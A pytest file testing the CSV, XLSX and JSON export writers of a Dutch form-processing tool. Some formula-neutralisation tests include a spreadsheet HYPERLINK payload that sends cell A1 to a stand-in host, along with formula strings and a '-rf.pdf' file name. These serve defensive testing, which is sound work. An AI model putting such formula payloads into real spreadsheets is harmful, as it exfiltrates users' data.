"""The export writers, read back with the csv module and openpyxl, on records built from the content."""

from __future__ import annotations

import csv
import datetime
import gc
import io
import json
import re
import weakref
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from werkbladen.content.model import Werkboek
from werkbladen.content.naming import WERKBOEK, FieldSpec
from werkbladen.errors import WerkbladenError
from werkbladen.export import CsvDialect, Format, format_from_suffix, write_records
from werkbladen.export import workbook as xlsx
from werkbladen.export.table import FIXED_COLUMNS, LONG_COLUMNS

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def table_key(spec: FieldSpec) -> str:
    assert spec.row is not None and spec.column is not None
    return spec.name[: -(len(spec.row) + len(spec.column) + 2)]


def value_for(spec: FieldSpec, i: int) -> Any:
    if spec.kind == "checkbox":
        return i % 2 == 0
    if spec.kind == "choice":
        return spec.options[i % len(spec.options)][0]
    if spec.kind == "date":
        return f"2021-03-{i % 28 + 1:02d}"
    if spec.kind == "multiline":
        return f"Eén regel voor {spec.name}\nTwee: ‘coördinatie’, ë ï é — €\n  ingesprongen  "
    return f"{spec.name} — één"


def expected_text(value: Any) -> str | None:
    if isinstance(value, bool):
        return "ja" if value else "nee"
    return value  # type: ignore[no-any-return]


def make_record(
    werkboek: Werkboek, *, file: str = "inbox/a.pdf", werkblad: str = WERKBOEK, i: int = 0
) -> tuple[dict[str, Any], dict[str, Any]]:
    """A record with every field of ``werkblad`` filled, and the raw value per column name."""
    answers: dict[str, Any] = {}
    respondent: dict[str, Any] = {}
    by_column: dict[str, Any] = {}
    for n, spec in enumerate(werkboek.form_fields(werkblad)):
        value = value_for(spec, i + n)
        by_column[spec.name] = value
        if spec.name.startswith("respondent_"):
            respondent[spec.name.removeprefix("respondent_")] = value
        elif spec.table:
            rows = answers.setdefault(table_key(spec), [])
            if not rows or rows[-1]["row"] != spec.row:
                rows.append({"row": spec.row})
            rows[-1][spec.column] = value
        else:
            answers[spec.name] = value
    record: dict[str, Any] = {
        "file": file,
        "status": "ok",
        "reason": None,
        "werkblad": werkblad,
        "content_version": werkboek.version,
        "respondent": respondent,
        "answers": answers,
        "extras": {},
        "warnings": [],
        "details": {},
    }
    return record, by_column


def failed_record(file: str = "inbox/dicht.pdf") -> dict[str, Any]:
    record: dict[str, Any] = {
        "file": file,
        "status": "encrypted",
        "reason": "het bestand is beveiligd met een wachtwoord",
        "werkblad": None,
        "content_version": None,
        "respondent": {},
        "answers": {},
        "extras": {},
        "warnings": [],
        "details": {"error": "EncryptedError"},
    }
    return record


def field_of_kind(werkboek: Werkboek, kind: str, *, table: bool | None = None) -> FieldSpec:
    for spec in werkboek.form_fields(WERKBOEK):
        if spec.kind == kind and (table is None or (spec.table is not None) == table):
            return spec
    raise AssertionError(f"the shipped content has no {kind} field")


def set_answer(record: dict[str, Any], spec: FieldSpec, value: Any) -> None:
    if spec.name.startswith("respondent_"):
        record["respondent"][spec.name.removeprefix("respondent_")] = value
    elif spec.table:
        for row in record["answers"][table_key(spec)]:
            if row["row"] == spec.row:
                row[spec.column] = value
    else:
        record["answers"][spec.name] = value


def read_csv(path: Path, dialect: CsvDialect = "excel-nl") -> list[list[str]]:
    raw = path.read_bytes()
    if dialect == "excel-nl":
        assert raw.startswith(b"\xef\xbb\xbf")
        text = raw[3:].decode("utf-8")
        delimiter = ";"
    else:
        assert not raw.startswith(b"\xef\xbb\xbf")
        text = raw.decode("utf-8")
        delimiter = ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


def read_xlsx(path: Path, sheet: str = xlsx.ANSWERS_SHEET) -> list[list[Any]]:
    book = openpyxl.load_workbook(path)
    return [list(row) for row in book[sheet].iter_rows(values_only=True)]


def expected_header(werkboek: Werkboek, extras: Sequence[str] = ()) -> list[str]:
    fields = [s.name for s in werkboek.form_fields(WERKBOEK)]
    respondent = [s.name for s in werkboek.respondent_fields()]
    assert fields[: len(respondent)] == respondent
    rest = [name for name in fields if name not in respondent]
    return [*FIXED_COLUMNS, *respondent, *rest, *(f"extra:{e}" for e in extras), "warnings"]


# ---------------------------------------------------------------- format and header


@pytest.mark.parametrize(
    ("name", "fmt"),
    [("a.json", "json"), ("a.JSONL", "jsonl"), ("a.ndjson", "jsonl"), ("a.csv", "csv"), ("b/a.xlsx", "xlsx")],
)
def test_format_from_suffix(name: str, fmt: Format) -> None:
    assert format_from_suffix(Path(name)) == fmt


@pytest.mark.parametrize("name", ["a.pdf", "a", "a.xls", "a.json.bak"])
def test_format_from_suffix_unknown(name: str) -> None:
    assert format_from_suffix(Path(name)) is None


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_wide_header_is_werkboek_order(tmp_path: Path, werkboek: Werkboek, fmt: Format) -> None:
    record, _ = make_record(werkboek)
    record["extras"] = {"zz_oud": "x", "aa_oud": "y"}
    out = tmp_path / f"out.{fmt}"
    write_records([record], fmt, out, werkboek=werkboek, xlsx_layout="machine")
    rows = read_csv(out) if fmt == "csv" else read_xlsx(out)
    assert rows[0] == expected_header(werkboek, ["aa_oud", "zz_oud"])
    assert "stap1_gezamenlijke_opgave" in rows[0]


# ---------------------------------------------------------------- CSV


@pytest.mark.parametrize("dialect", ["excel-nl", "rfc4180"])
def test_csv_reads_back_exactly(tmp_path: Path, werkboek: Werkboek, dialect: CsvDialect) -> None:
    record, values = make_record(werkboek)
    out = tmp_path / "out.csv"
    write_records([record], "csv", out, werkboek=werkboek, csv_dialect=dialect, neutralise_formulas=False)
    raw = out.read_bytes()
    assert raw.count(b"\r\n") == 2  # header and one row; line breaks inside answers stay "\n"
    assert raw.endswith(b"\r\n")
    header, row = read_csv(out, dialect)
    cells = dict(zip(header, row, strict=True))
    assert cells["file"] == "inbox/a.pdf" and cells["status"] == "ok" and cells["reason"] == ""
    assert cells["werkblad"] == "werkboek" and cells["content_version"] == werkboek.version
    for name, value in values.items():
        assert cells[name] == expected_text(value), name
    assert cells["warnings"] == ""
    multiline = field_of_kind(werkboek, "multiline")
    assert cells[multiline.name].endswith("\nTwee: ‘coördinatie’, ë ï é — €\n  ingesprongen  ")


def test_csv_excel_nl_uses_semicolons_and_bom(tmp_path: Path, werkboek: Werkboek) -> None:
    record, _ = make_record(werkboek)
    out = tmp_path / "out.csv"
    write_records([record], "csv", out, werkboek=werkboek)
    first_line = out.read_bytes().split(b"\r\n")[0]
    assert first_line.startswith(
        b"\xef\xbb\xbffile;source;sha256;sender;sent;modified;status;reason;werkblad;content_version;"
        b"duplicate_of;superseded_by;conflicts;respondent_"
    )


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("neutralise", [True, False])
def test_csv_formula_neutralisation(
    tmp_path: Path, werkboek: Werkboek, trigger: str, neutralise: bool
) -> None:
    record, _ = make_record(werkboek)
    spec = field_of_kind(werkboek, "text", table=False)
    payload = f'{trigger}HYPERLINK("http://x.example/?"&A1;"klik")'
    set_answer(record, spec, payload)
    record["extras"] = {f"{trigger}veld": payload}
    out = tmp_path / "out.csv"
    write_records([record], "csv", out, werkboek=werkboek, neutralise_formulas=neutralise)
    header, row = read_csv(out)
    cells = dict(zip(header, row, strict=True))
    expected = "'" + payload if neutralise else payload
    assert cells[spec.name] == expected
    assert cells[f"extra:{trigger}veld"] == expected  # "extra:" already makes the header safe
    safe = field_of_kind(werkboek, "multiline", table=False)
    assert not cells[safe.name].startswith("'")


def test_csv_neutralises_headers_and_file_names(tmp_path: Path, werkboek: Werkboek) -> None:
    record = failed_record(file="-rf.pdf")
    out = tmp_path / "out.csv"
    write_records([record], "csv", out, werkboek=werkboek, inputs=[])
    _, row = read_csv(out)
    assert row[0] == "'-rf.pdf"


# ---------------------------------------------------------------- XLSX


def test_xlsx_reads_back_exactly_as_text(tmp_path: Path, werkboek: Werkboek) -> None:
    record, values = make_record(werkboek)
    out = tmp_path / "out.xlsx"
    write_records([record], "xlsx", out, werkboek=werkboek, xlsx_layout="machine")
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == [xlsx.ANSWERS_SHEET, xlsx.CODEBOOK_SHEET]
    sheet = book[xlsx.ANSWERS_SHEET]
    assert sheet.freeze_panes == "B2"
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.auto_filter.ref is not None and sheet.auto_filter.ref.startswith("A1:")
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=False))
    for name, value in values.items():
        assert cells[name].value == expected_text(value), name
        assert cells[name].data_type == "s", name
    assert cells["status"].value == "ok" and cells["reason"].value is None
    assert sheet.column_dimensions["A"].width >= 30


def test_xlsx_header_of_an_odd_extra_field_is_repaired(tmp_path: Path, werkboek: Werkboek) -> None:
    """A field name from a hostile PDF (NUL bytes, a lone surrogate) must not make the file unreadable."""
    record, _ = make_record(werkboek)
    record["extras"] = {"a\x00b\ud800": "waarde"}
    out = tmp_path / "out.xlsx"
    write_records([record], "xlsx", out, werkboek=werkboek, inputs=[], xlsx_layout="machine")
    sheet = openpyxl.load_workbook(out)[xlsx.ANSWERS_SHEET]
    header = [c.value for c in sheet[1]]
    assert "extra:a\ufffdb\ufffd" in header
    assert sheet.cell(row=2, column=header.index("extra:a\ufffdb\ufffd") + 1).value == "waarde"


@pytest.mark.parametrize("payload", ["=1+1", "@SUM(A1)", "+1", "-1", "=", "#N/A", "#DIV/0!", "\t=1", "\r=1"])
def test_xlsx_never_holds_a_formula(tmp_path: Path, werkboek: Werkboek, payload: str) -> None:
    record, _ = make_record(werkboek)
    spec = field_of_kind(werkboek, "multiline", table=True)
    set_answer(record, spec, payload)
    record["extras"] = {"oud": payload}
    record["file"] = payload
    out = tmp_path / "out.xlsx"
    write_records([record], "xlsx", out, werkboek=werkboek, inputs=[], xlsx_layout="machine")
    with zipfile.ZipFile(out) as package:
        for name in package.namelist():
            assert not re.search(rb"<f[\s>/]", package.read(name)), name
    sheet = openpyxl.load_workbook(out)[xlsx.ANSWERS_SHEET]
    header = [c.value for c in sheet[1]]
    for column in (spec.name, "extra:oud", "file"):
        cell = sheet.cell(row=2, column=header.index(column) + 1)
        assert cell.value == payload
        assert cell.data_type == "s"
        assert cell.quotePrefix == payload.startswith(tuple(TRIGGERS))


def test_xlsx_codebook(tmp_path: Path, werkboek: Werkboek) -> None:
    record, _ = make_record(werkboek)
    record["extras"] = {"oud_veld": "x"}
    out = tmp_path / "out.xlsx"
    write_records([record], "xlsx", out, werkboek=werkboek, xlsx_layout="machine")
    header = read_xlsx(out)[0]
    codebook = read_xlsx(out, xlsx.CODEBOOK_SHEET)
    assert codebook[0] == list(xlsx.CODEBOOK_HEADER)
    assert [row[0] for row in codebook[1:]] == header
    rows = {row[0]: row for row in codebook[1:]}
    choice = field_of_kind(werkboek, "choice")
    werkblad_id = choice.name.split("_")[0]
    werkblad = werkboek.werkblad(werkblad_id)
    assert rows[choice.name][1:5] == [
        werkblad_id,
        f"{werkblad.heading}: {werkblad.title}",
        choice.tooltip,
        "keuze",
    ]
    assert rows[choice.name][5] == "\n".join(f"{v} = {label}" for v, label in choice.options)
    checkbox = field_of_kind(werkboek, "checkbox")
    assert rows[checkbox.name][4:] == ["vinkje", "ja = aangevinkt\nnee = niet aangevinkt"]
    assert rows["respondent_naam"][1] == "respondent"
    assert rows["respondent_naam"][3] == "Naam"
    assert rows["extra:oud_veld"][3]
    assert rows["warnings"][3]


def test_xlsx_repairs_illegal_characters_and_warns(tmp_path: Path, werkboek: Werkboek) -> None:
    record, _ = make_record(werkboek)
    spec = field_of_kind(werkboek, "multiline", table=False)
    set_answer(record, spec, "bel\x07 en\x0bregel\x00 \ud800 \uffff")
    record["warnings"] = ["al een waarschuwing"]
    out = tmp_path / "out.xlsx"
    write_records([record], "xlsx", out, werkboek=werkboek, xlsx_layout="machine")
    header, row = read_xlsx(out)
    cells = dict(zip(header, row, strict=True))
    assert cells[spec.name] == "bel\ufffd en\nregel\ufffd \ufffd \ufffd"
    assert cells["status"] == "warnings"
    warnings = cells["warnings"].split(" | ")
    assert warnings[0] == "al een waarschuwing"
    assert warnings[1].startswith(f"{spec.name}: 5 teken(s) vervangen")


def test_xlsx_cuts_text_over_excels_cell_limit(tmp_path: Path, werkboek: Werkboek) -> None:
    record, _ = make_record(werkboek)
    spec = field_of_kind(werkboek, "multiline", table=False)
    set_answer(record, spec, "é" * (xlsx.MAX_CELL_TEXT + 5))
    out = tmp_path / "out.xlsx"
    write_records([record], "xlsx", out, werkboek=werkboek, xlsx_layout="machine")
    header, row = read_xlsx(out)
    cells = dict(zip(header, row, strict=True))
    assert cells[spec.name] == "é" * xlsx.MAX_CELL_TEXT
    assert "5 teken(s) afgekapt" in cells["warnings"]


def test_xlsx_keeps_literal_excel_escapes_and_special_characters(tmp_path: Path, werkboek: Werkboek) -> None:
    record, _ = make_record(werkboek)
    spec = field_of_kind(werkboek, "multiline", table=False)
    set_answer(record, spec, ' a <b> & "c" _x0041_ \r\n ')
    out = tmp_path / "out.xlsx"
    write_records([record], "xlsx", out, werkboek=werkboek, xlsx_layout="machine")
    with zipfile.ZipFile(out) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert ' a &lt;b&gt; &amp; "c" _x005F_x0041_ &#13;\n </t>' in sheet_xml
    header, row = read_xlsx(out)
    assert dict(zip(header, row, strict=True))[spec.name] == ' a <b> & "c" _x005F_x0041_ \r\n '


def test_xlsx_to_stdout_is_refused(werkboek: Werkboek) -> None:
    with pytest.raises(WerkbladenError, match="standaarduitvoer"):
        write_records([failed_record()], "xlsx", None, werkboek=werkboek)


def test_xlsx_is_reproducible(tmp_path: Path, werkboek: Werkboek) -> None:
    records = [make_record(werkboek, i=i, file=f"inbox/{i}.pdf")[0] for i in range(3)]
    write_records(records, "xlsx", tmp_path / "a.xlsx", werkboek=werkboek)
    write_records(records, "xlsx", tmp_path / "b.xlsx", werkboek=werkboek)
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def test_xlsx_over_the_row_limit_fails_and_leaves_no_file(
    tmp_path: Path, werkboek: Werkboek, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx, "MAX_ROWS", 3)
    records = [failed_record(f"inbox/{i}.pdf") for i in range(3)]
    out = tmp_path / "out.xlsx"
    with pytest.raises(WerkbladenError, match="rijen"):
        write_records(records, "xlsx", out, werkboek=werkboek)
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------- shared wide behaviour


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_failed_record_extras_and_warnings(tmp_path: Path, werkboek: Werkboek, fmt: Format) -> None:
    good, _ = make_record(werkboek, file="inbox/goed.pdf")
    good["status"] = "warnings"
    good["extras"] = {"stap2_oude_vraag": "oud antwoord", "a_veld": True}
    good["warnings"] = ["unknown field stap2_oude_vraag", "respondent_datum: not a date"]
    table_spec = field_of_kind(werkboek, "multiline", table=True)
    for row in good["answers"][table_key(table_spec)]:
        if row["row"] == table_spec.row:
            row["kolom_van_vroeger"] = "cel uit een oude versie"
    out = tmp_path / f"out.{fmt}"
    write_records([good, failed_record()], fmt, out, werkboek=werkboek, xlsx_layout="machine")
    rows = read_csv(out) if fmt == "csv" else read_xlsx(out)
    old_cell = f"{table_key(table_spec)}_{table_spec.row}_kolom_van_vroeger"
    extras = sorted(["stap2_oude_vraag", "a_veld", old_cell])
    assert rows[0] == expected_header(werkboek, extras)
    empty = "" if fmt == "csv" else None
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["extra:stap2_oude_vraag"] == "oud antwoord"
    assert first["extra:a_veld"] == "ja"
    assert first[f"extra:{old_cell}"] == "cel uit een oude versie"
    assert first["warnings"] == "unknown field stap2_oude_vraag | respondent_datum: not a date"
    failed = dict(zip(rows[0], rows[2], strict=True))
    assert failed["file"] == "inbox/dicht.pdf"
    assert failed["status"] == "encrypted"
    assert failed["reason"] == "het bestand is beveiligd met een wachtwoord"
    assert all(value == empty for name, value in failed.items() if name not in ("file", "status", "reason"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_step_record_fills_only_its_step(tmp_path: Path, werkboek: Werkboek, fmt: Format) -> None:
    record, values = make_record(werkboek, werkblad="stap4")
    out = tmp_path / f"out.{fmt}"
    write_records([record], fmt, out, werkboek=werkboek, xlsx_layout="machine")
    rows = read_csv(out) if fmt == "csv" else read_xlsx(out)
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert rows[0] == expected_header(werkboek)
    for name in rows[0][len(FIXED_COLUMNS) : -1]:
        if name in values:
            assert cells[name] == expected_text(values[name]), name
        else:
            assert not cells[name], name


def test_null_answers_are_empty_cells(tmp_path: Path, werkboek: Werkboek) -> None:
    record, _ = make_record(werkboek)
    checkbox = field_of_kind(werkboek, "checkbox")
    text = field_of_kind(werkboek, "text", table=False)
    set_answer(record, checkbox, None)
    set_answer(record, text, None)
    out = tmp_path / "out.csv"
    write_records([record], "csv", out, werkboek=werkboek)
    header, row = read_csv(out)
    cells = dict(zip(header, row, strict=True))
    assert cells[checkbox.name] == "" and cells[text.name] == ""


def test_csv_replaces_lone_surrogates_and_warns(tmp_path: Path, werkboek: Werkboek) -> None:
    record, _ = make_record(werkboek)
    spec = field_of_kind(werkboek, "text", table=False)
    set_answer(record, spec, "a\udc80b")
    out = tmp_path / "out.csv"
    write_records([record], "csv", out, werkboek=werkboek)
    header, row = read_csv(out)
    cells = dict(zip(header, row, strict=True))
    assert cells[spec.name] == "a\ufffdb"
    assert cells["status"] == "warnings" and spec.name in cells["warnings"]


# ---------------------------------------------------------------- JSON


def test_json_one_record_is_the_object(tmp_path: Path, werkboek: Werkboek) -> None:
    record, _ = make_record(werkboek)
    record["respondent"]["datum"] = datetime.date(2021, 3, 15)
    out = tmp_path / "out.json"
    write_records([record], "json", out, werkboek=werkboek)
    raw = out.read_bytes()
    assert "coördinatie".encode() in raw and b"\\u" not in raw
    assert raw.startswith(b'{\n  "file": "inbox/a.pdf",')
    loaded = json.loads(raw)
    assert loaded["respondent"]["datum"] == "2021-03-15"
    record["respondent"]["datum"] = "2021-03-15"
    assert loaded == record


def test_json_several_records_are_an_array(tmp_path: Path, werkboek: Werkboek) -> None:
    records = [make_record(werkboek)[0], failed_record()]
    out = tmp_path / "out.json"
    write_records(records, "json", out, werkboek=werkboek)
    assert json.loads(out.read_bytes()) == records
    write_records([], "json", out, werkboek=werkboek)
    assert json.loads(out.read_bytes()) == []


def test_jsonl_one_record_per_line(tmp_path: Path, werkboek: Werkboek) -> None:
    records = [make_record(werkboek)[0], failed_record()]
    out = tmp_path / "out.jsonl"
    write_records(records, "jsonl", out, werkboek=werkboek)
    lines = out.read_bytes().split(b"\n")
    assert lines[-1] == b"" and len(lines) == 3
    assert [json.loads(line) for line in lines[:-1]] == records


def test_json_keeps_lone_surrogates_as_escapes(tmp_path: Path, werkboek: Werkboek) -> None:
    record = failed_record()
    record["reason"] = "kapot \ud800 teken"
    out = tmp_path / "out.jsonl"
    write_records([record], "jsonl", out, werkboek=werkboek)
    assert b"\\ud800" in out.read_bytes()
    assert json.loads(out.read_bytes())["reason"] == "kapot \ud800 teken"


def test_json_to_stdout(capsysbinary: pytest.CaptureFixture[bytes], werkboek: Werkboek) -> None:
    record, _ = make_record(werkboek)
    write_records([record], "json", None, werkboek=werkboek)
    out = capsysbinary.readouterr().out
    assert json.loads(out.decode("utf-8")) == record


def test_csv_to_stdout_is_the_file_bytes(
    capsysbinary: pytest.CaptureFixture[bytes], tmp_path: Path, werkboek: Werkboek
) -> None:
    record, _ = make_record(werkboek)
    write_records([record], "csv", tmp_path / "out.csv", werkboek=werkboek)
    write_records([record], "csv", None, werkboek=werkboek)
    assert capsysbinary.readouterr().out == (tmp_path / "out.csv").read_bytes()


# ---------------------------------------------------------------- long


def expected_long(werkboek: Werkboek, record: dict[str, Any], values: dict[str, Any]) -> list[dict[str, Any]]:
    tooltips = {s.name: s.tooltip for s in werkboek.form_fields(WERKBOEK)}
    steps: dict[str, str] = {s.name: "respondent" for s in werkboek.respondent_fields()}
    scales = werkboek.scale_map
    for werkblad in werkboek.werkbladen:
        steps.update({s.name: werkblad.id for s in werkblad.fields(scales)})
    rows = [
        {
            "file": record["file"],
            "source": record.get("source") or record["file"],
            "werkblad": record["werkblad"],
            "step": steps[name],
            "field": name,
            "question": tooltips[name],
            "answer": value,
        }
        for name, value in values.items()
        if value is not None
    ]
    rows += [
        {
            "file": record["file"],
            "source": record.get("source") or record["file"],
            "werkblad": record["werkblad"],
            "step": "",
            "field": name,
            "question": "",
            "answer": v,
        }
        for name, v in sorted(record["extras"].items())
    ]
    return rows


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_long_table(tmp_path: Path, werkboek: Werkboek, fmt: Format) -> None:
    record, values = make_record(werkboek)
    text = field_of_kind(werkboek, "text", table=False)
    set_answer(record, text, None)
    values[text.name] = None
    record["extras"] = {"oud": "=oud antwoord"}
    out = tmp_path / f"out.{fmt}"
    write_records(
        [record, failed_record()], fmt, out, werkboek=werkboek, long=True, neutralise_formulas=False
    )
    rows = read_csv(out) if fmt == "csv" else read_xlsx(out)
    assert rows[0] == list(LONG_COLUMNS)
    expected = [
        [row[c] if c != "answer" else expected_text(row[c]) for c in LONG_COLUMNS]
        for row in expected_long(werkboek, record, values)
    ]
    if fmt == "csv":
        expected = [[c if c is not None else "" for c in row] for row in expected]
    else:
        expected = [[c if c != "" else None for c in row] for row in expected]
    assert rows[1:] == expected
    assert any(row[4] == text.name for row in rows) is False
    if fmt == "xlsx":
        codebook = read_xlsx(out, xlsx.CODEBOOK_SHEET)
        assert codebook[0][0] == "veld"
        assert [row[0] for row in codebook[1:]][: len(values)] == list(values)


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_long_json_keeps_types(tmp_path: Path, werkboek: Werkboek, fmt: Format) -> None:
    record, values = make_record(werkboek)
    out = tmp_path / f"out.{fmt}"
    write_records([record], fmt, out, werkboek=werkboek, long=True)
    raw = out.read_bytes()
    loaded = json.loads(raw) if fmt == "json" else [json.loads(line) for line in raw.splitlines()]
    assert loaded == expected_long(werkboek, record, values)
    assert any(row["answer"] is True for row in loaded)


# ---------------------------------------------------------------- guards and speed


@pytest.mark.parametrize("fmt", ["json", "csv", "xlsx"])
def test_refuses_to_overwrite_an_input(tmp_path: Path, werkboek: Werkboek, fmt: Format) -> None:
    source = tmp_path / "a.pdf"
    source.write_bytes(b"%PDF-1.7 original")
    record, _ = make_record(werkboek, file=str(source))
    with pytest.raises(WerkbladenError, match="invoerbestanden"):
        write_records([record], fmt, source, werkboek=werkboek)
    assert source.read_bytes() == b"%PDF-1.7 original"


def test_rejects_unknown_format_and_dialect(tmp_path: Path, werkboek: Werkboek) -> None:
    with pytest.raises(WerkbladenError, match="uitvoerformaat"):
        write_records([], "xls", tmp_path / "a.xls", werkboek=werkboek)  # type: ignore[arg-type]
    with pytest.raises(WerkbladenError, match="dialect"):
        write_records([], "csv", tmp_path / "a.csv", werkboek=werkboek, csv_dialect="excel")  # type: ignore[arg-type]
    assert list(tmp_path.iterdir()) == []


def test_a_thousand_werkboek_records_give_a_thousand_rows(tmp_path: Path, werkboek: Werkboek) -> None:
    """Speed is measured in scripts/bench.py, not here; this checks that size does not break anything."""
    template, _ = make_record(werkboek)
    records = [{**template, "file": f"inbox/{i:04}.pdf"} for i in range(1000)]
    for fmt in ("xlsx", "csv"):
        write_records(records, fmt, tmp_path / f"out.{fmt}", werkboek=werkboek, xlsx_layout="machine")
    book = openpyxl.load_workbook(tmp_path / "out.xlsx", read_only=True)
    try:
        assert sum(1 for _ in book["antwoorden"].iter_rows(values_only=True)) == 1001
    finally:
        book.close()
    assert len(read_csv(tmp_path / "out.csv")) == 1001


# ---------------------------------------------------------------- streaming


def mixed_records(werkboek: Werkboek) -> list[dict[str, Any]]:
    """Records of every kind an export meets: extras (some empty), failures, warnings, repairs."""
    first, _ = make_record(werkboek, file="inbox/0.pdf")
    first["extras"] = {"zz_oud": "x", "aa_leeg": None, "=formule": "=1+1"}
    cell = field_of_kind(werkboek, "multiline", table=True)
    for row in first["answers"][table_key(cell)]:
        if row["row"] == cell.row:
            row["kolom_van_vroeger"] = "oud"
    second, _ = make_record(werkboek, file="inbox/1.pdf", werkblad="stap4", i=1)
    second["extras"] = {"aa_leeg": "nu gevuld", "b": True}
    second["warnings"] = ["een", "twee"]
    broken, _ = make_record(werkboek, file="inbox/2.pdf", werkblad="stap2", i=2)
    set_answer(broken, field_of_kind(werkboek, "multiline", table=False), "bel\x07 \x0b\ud800 _x0041_ <&>")
    return [first, failed_record("inbox/3.pdf"), second, broken, failed_record("-rf.pdf")]


SHAPES = [
    ("json", False, "excel-nl"),
    ("json", True, "excel-nl"),
    ("jsonl", False, "excel-nl"),
    ("jsonl", True, "excel-nl"),
    ("csv", False, "excel-nl"),
    ("csv", False, "rfc4180"),
    ("csv", True, "excel-nl"),
    ("xlsx", False, "excel-nl"),
    ("xlsx", True, "excel-nl"),
]


@pytest.mark.parametrize(("fmt", "long", "dialect"), SHAPES)
@pytest.mark.parametrize("count", [0, 1, 5])
def test_streamed_records_give_the_same_bytes_as_a_list(
    tmp_path: Path,
    werkboek: Werkboek,
    monkeypatch: pytest.MonkeyPatch,
    fmt: Format,
    long: bool,
    dialect: CsvDialect,
    count: int,
) -> None:
    """A one-shot generator, with the wide rows spooled to disk, writes what the whole list writes."""
    from werkbladen.export import spool

    records = mixed_records(werkboek)[:count]
    options: dict[str, Any] = {"werkboek": werkboek, "long": long, "csv_dialect": dialect}
    write_records(records, fmt, tmp_path / f"list.{fmt}", **options)
    monkeypatch.setattr(spool, "MEMORY", 1)
    write_records((r for r in records), fmt, tmp_path / f"stream.{fmt}", inputs=[], **options)
    assert (tmp_path / f"stream.{fmt}").read_bytes() == (tmp_path / f"list.{fmt}").read_bytes()
    if fmt == "json" and not long:
        document: Any = records[0] if count == 1 else records
        expected = json.dumps(document, ensure_ascii=False, indent=2) + "\n"
        assert (tmp_path / "stream.json").read_bytes() == expected.encode("utf-8", "backslashreplace")


class _Record(dict[str, Any]):
    """A record that a weak reference can watch."""


@pytest.mark.parametrize(("fmt", "long", "dialect"), SHAPES)
def test_a_written_record_is_not_held(
    tmp_path: Path, werkboek: Werkboek, fmt: Format, long: bool, dialect: CsvDialect
) -> None:
    """A record is let go once written (the last one at the latest): memory does not grow with N."""
    refs: list[weakref.ref[_Record]] = []

    def records() -> Iterator[_Record]:
        for i, template in enumerate(mixed_records(werkboek) * 2):
            gc.collect()
            # The consumer's loop variable may still hold the last one until this one replaces it.
            assert all(ref() is None for ref in refs[:-1]), "an earlier record is still held"
            record = _Record(template, file=f"inbox/{i}.pdf")
            refs.append(weakref.ref(record))
            yield record
            del record

    out = tmp_path / f"out.{fmt}"
    write_records(records(), fmt, out, werkboek=werkboek, long=long, csv_dialect=dialect, inputs=[])
    assert len(refs) == 10
    listed = [{**t, "file": f"inbox/{i}.pdf"} for i, t in enumerate(mixed_records(werkboek) * 2)]
    write_records(listed, fmt, tmp_path / f"list.{fmt}", werkboek=werkboek, long=long, csv_dialect=dialect)
    assert out.read_bytes() == (tmp_path / f"list.{fmt}").read_bytes()


def test_spool_keeps_rows_in_order_in_memory_or_on_disk() -> None:
    from werkbladen.export.spool import Spool

    rows = [(["a", None, "\ud800 é"], {"x": None}, []), ([], {}, ["w"]), (["b" * 100_000], {}, [])]
    for memory in (1, 10**9):
        with Spool(memory) as spool:
            for row in rows:
                spool.add(row)
            assert list(spool) == rows
            assert spool.count == 3


def test_each_writer_is_imported_only_for_its_format() -> None:
    import subprocess
    import sys

    code = (
        "import sys, werkbladen.export; "
        "print(sorted(m for m in sys.modules if m.startswith('werkbladen.export.') or m == 'zipfile'))"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stdout.strip() == "[]"


# ---------------------------------------------------------------- the record's own keys


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_wide_tables_hold_the_provenance_and_standing_keys(
    tmp_path: Path, werkboek: Werkboek, fmt: Format
) -> None:
    """The inbox's keys are fixed columns; a record written before they existed leaves them empty."""
    old, _ = make_record(werkboek, file="inbox/oud.pdf")
    new, _ = make_record(werkboek, file="inbox/mei.zip")
    new |= {
        "source": "inbox/mei.zip/ede/stap-2.pdf",
        "sha256": "ab" * 32,
        "sender": "Jan <jan@ede.nl>",
        "sent": "2021-06-24T10:15:00+02:00",
        "modified": "2021-06-23T08:00:00Z",
        "duplicate_of": None,
        "superseded_by": "inbox/juni.zip/ede/stap-2.pdf",
        "conflicts": [{"source": "inbox/oud.pdf", "fields": ["stap2_regie"]}],
    }
    out = tmp_path / f"out.{fmt}"
    write_records([old, new], fmt, out, werkboek=werkboek, xlsx_layout="machine")
    rows = read_csv(out) if fmt == "csv" else read_xlsx(out)
    assert rows[0][: len(FIXED_COLUMNS)] == list(FIXED_COLUMNS)
    first, second = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
    empty = "" if fmt == "csv" else None
    keys = ("source", "sha256", "sender", "sent", "modified", "duplicate_of", "superseded_by", "conflicts")
    assert all(first[k] == empty for k in keys)
    assert {k: second[k] for k in keys} == {
        **{k: new[k] for k in keys if k != "conflicts"},
        "duplicate_of": empty,
        "conflicts": '[{"source":"inbox/oud.pdf","fields":["stap2_regie"]}]',
    }
    long = tmp_path / "long.csv"
    write_records([new], "csv", long, werkboek=werkboek, long=True)
    assert {row[1] for row in read_csv(long)[1:]} == {"inbox/mei.zip/ede/stap-2.pdf"}
